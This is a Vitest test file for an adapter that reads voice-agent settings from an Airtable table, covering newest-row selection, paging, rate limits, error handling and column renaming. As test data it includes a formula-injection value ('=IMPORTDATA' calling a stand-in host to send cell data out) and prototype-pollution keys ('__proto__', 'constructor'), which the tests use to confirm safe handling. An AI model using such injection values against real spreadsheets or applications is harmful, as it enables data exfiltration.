import { afterEach, beforeEach, expect, test } from "vitest";
import { airtable } from "../../../worker/adapters/sources/airtable.ts";
import {
  AIRTABLE_COLUMNS,
  type AirtableColumns,
  airtableColumns,
} from "../../../worker/protocol/editing/airtable-columns.ts";
import { type AirtableBase, type Failing, openAirtable } from "../../support/sources/airtable-base.ts";

let nowMs = Date.now();
let table: AirtableBase;
beforeEach(async () => {
  nowMs += 60_000;
  table = await openAirtable(() => nowMs);
});
afterEach(() => table.close());

const read = (options: object = {}, columns: AirtableColumns = AIRTABLE_COLUMNS, signal = never()) =>
  airtable({
    token: table.token,
    base: table.base,
    table: table.table,
    apiUrl: table.url,
    columns,
    defaultAgent: "owl",
    ...options,
  }).read(signal);
const never = () => new AbortController().signal;
const day = (n: number) => new Date(Date.UTC(2026, 0, n)).toISOString();

test("an agent is as its newest row has it, by the columns of the sample", async () => {
  table.add({ Updated: day(1), Prompt: "Old." });
  const id = table.add({
    Updated: day(3),
    Prompt: " Be kind.\n",
    Greeting: "Hello.",
    Voice: "en-US-Neural2-F",
    Language: "en-US",
    ttsProvider: "google",
    transcriptionProvider: "deepgram",
    Hints: "Night Runner, Day Runner\nOwl",
    Orders: "of no use here",
  });
  const other = table.add({ Agent: "desk ", Updated: day(2), Greeting: "Desk." });

  expect(await read()).toEqual({
    ok: true,
    edits: [
      {
        agent: "owl",
        note: `row ${id}`,
        edit: {
          greeting: "Hello.",
          instructions: "Be kind.",
          voice: {
            language: "en-US",
            voice: "en-US-Neural2-F",
            ttsProvider: "Google",
            transcriptionProvider: "Deepgram",
          },
          hints: ["Night Runner", "Day Runner", "Owl"],
        },
      },
      { agent: "desk", note: `row ${other}`, edit: { greeting: "Desk." } },
    ],
  });
});

test("an empty cell is as the code has it; what is no text is handed on for the check to refuse", async () => {
  table.add({ Updated: day(1), Greeting: " ", Prompt: { error: "#ERROR!" }, Hints: ["a", "b"], Voice: null });

  expect(await read()).toMatchObject({
    edits: [{ edit: { instructions: { error: "#ERROR!" }, hints: ["a", "b"] } }],
  });
});

test("a text that looks like a formula, or has markup, is that text", async () => {
  table.add({
    Updated: day(1),
    Greeting: '=IMPORTDATA("https://x.example/?"&A1)',
    Prompt: "<b>Be</b> {{kind}}",
  });

  expect(await read()).toMatchObject({
    edits: [
      { edit: { greeting: '=IMPORTDATA("https://x.example/?"&A1)', instructions: "<b>Be</b> {{kind}}" } },
    ],
  });
});

test.each([[day(1)], [undefined]])(
  "two rows of an agent of the same time (%s) are told by name",
  async (at) => {
    const cells = at ? { Updated: at } : {};
    const ids = [
      table.add({ ...cells, Greeting: "One." }),
      table.add({ ...cells, Agent: "owl", Greeting: "Two." }),
    ];

    const found = await read();

    expect(found).toEqual({
      ok: true,
      edits: [{ agent: "owl", fault: expect.stringContaining(ids[0] ?? "") }],
    });
    expect(JSON.stringify(found)).toContain(ids[1]);
  },
);

test("rows come in pages of a hundred, the newest five hundred of them", async () => {
  for (let n = 1; n <= 650; n += 1) table.add({ Agent: `a${n}`, Updated: day(n), Greeting: "Hi." });

  const found = await read();

  expect(found).toMatchObject({ ok: true });
  expect(found.ok && found.edits.map(({ agent }) => agent)).toEqual(
    Array.from({ length: 500 }, (_, n) => `a${650 - n}`),
  );
  expect(table.asked.map(({ status }) => status)).toEqual([200, 200, 200, 200, 200]);
});

test("one that asked too often is told to wait for 30 s, within which asking is in vain", async () => {
  for (let n = 1; n <= 450; n += 1) table.add({ Agent: `a${n}`, Updated: day(n), Greeting: "Hi." });
  await read();

  expect(await read()).toEqual({
    ok: false,
    reason: "rate_limited",
    message: "Airtable was asked too often (429)",
    waitMs: 30_000,
  });
  nowMs += 30_000;
  expect(await read()).toMatchObject({ ok: true });
});

test.each<[Failing, string, string]>([
  ["down", "unreachable", "Airtable answered 503"],
  ["reset", "unreachable", "Airtable could not be reached"],
  ["garbage", "unreadable", "Airtable's answer is no list of records"],
  ["huge", "unreadable", "The table has more than 4,000,000 bytes"],
  ["redirect", "refused", "Airtable refused with 302"],
])("one that is %s is %s", async (failing, reason, message) => {
  table.add({ Greeting: "Hello." });
  table.failing = failing;

  expect(await read()).toEqual({ ok: false, reason, message });
});

test("a token, a base or a column that is none is refused by Airtable's name of it, and never shown", async () => {
  table.add({ Greeting: "Hello." });

  const refusals = [
    await read({ token: "patWrong" }),
    await read({ base: "appOther" }),
    await read({}, { ...AIRTABLE_COLUMNS, updated: "Geändert" }),
  ];

  expect(refusals).toEqual(
    [
      "Airtable refused with 401 AUTHENTICATION_REQUIRED",
      "Airtable refused with 403 INVALID_PERMISSIONS_OR_MODEL_NOT_FOUND",
      "Airtable refused with 422 UNKNOWN_FIELD_NAME",
    ].map((message) => ({ ok: false, reason: "refused", message })),
  );
});

test("a blank row, as one click makes it, is none, however new", async () => {
  const id = table.add({ Updated: day(1), Greeting: "Hello." });
  table.add({ Updated: day(2) });
  table.add({ Updated: day(3), Agent: "owl", Prompt: "", Greeting: " " });

  expect(await read()).toEqual({
    ok: true,
    edits: [{ agent: "owl", edit: { greeting: "Hello." }, note: `row ${id}` }],
  });
});

test("an empty table is no edit that takes all back, nor are blank rows", async () => {
  table.add({ Updated: day(1), Agent: "owl" });

  expect(await read()).toEqual({
    ok: false,
    reason: "empty",
    message: "The table has no row that says anything",
  });
});

test("whoever gives up on it need not wait", async () => {
  table.failing = "hang";

  await expect(read({}, AIRTABLE_COLUMNS, AbortSignal.timeout(50))).rejects.toThrow();
});

test("columns are renamed by the field they stand for", () => {
  expect(airtableColumns("instructions=System prompt, agent = Who")).toEqual({
    columns: { ...AIRTABLE_COLUMNS, instructions: "System prompt", agent: "Who" },
  });
});

test.each([
  "tools=Tools",
  "greeting",
  "greeting=",
  "=Greeting",
  "greeting=a=b",
  "__proto__=x",
  "constructor=x",
])("%j is no renaming", (list) => {
  expect(airtableColumns(list)).toEqual({ fault: expect.stringMatching(/^must be field=column.*hints$/) });
});
